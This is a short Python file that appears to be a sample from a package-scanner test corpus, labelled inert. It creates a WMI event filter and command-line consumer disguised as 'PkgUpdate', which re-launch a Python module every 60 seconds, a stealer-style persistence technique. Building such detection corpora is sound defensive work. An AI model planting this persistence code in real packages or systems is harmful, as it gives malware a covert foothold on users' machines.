# pkgguard corpus 446 (persistence), modelled on [stealer-profile]; inert, never run.
import sys

import wmi

ns = wmi.WMI(namespace=r"root\subscription")
filt = ns.__EventFilter.new()
filt.Name = "PkgUpdate"
filt.QueryLanguage = "WQL"
filt.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
filt.EventNamespace = r"root\cimv2"
filt.Put_()
consumer = ns.CommandLineEventConsumer.new()
consumer.Name = "PkgUpdate"
consumer.CommandLineTemplate = f'"{sys.executable}" -m pkg.agent'
consumer.Put_()
